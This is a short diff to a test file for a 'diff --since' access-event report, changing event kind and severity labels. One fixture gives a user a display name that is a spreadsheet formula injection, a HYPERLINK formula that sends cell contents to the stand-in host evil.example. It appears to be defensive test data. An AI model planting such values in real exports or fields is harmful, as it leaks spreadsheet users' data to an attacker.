@@ -91,11 +91,11 @@ describe("diff --since", () => {
     expect([...new Set(document.events.map(({ seenAt }) => seenAt))]).toEqual(["2026-11-18T02:00:03.000Z"]);
     expect(document.passing).toEqual([
       {
-        kind: "access",
+        kind: "access-gained",
         who: { id: `user:${EVE}`, displayName: '=HYPERLINK("https://evil.example/?"&A1,"Eve Mallory")' },
         resource: { id: `app:${AWS}`, displayName: "AWS Production" },
         direction: "cameAndWent",
-        severity: "info",
+        severity: "low",
         from: "2026-11-17T02:00:03.000Z",
         to: "2026-11-19T02:00:03.000Z",
       },
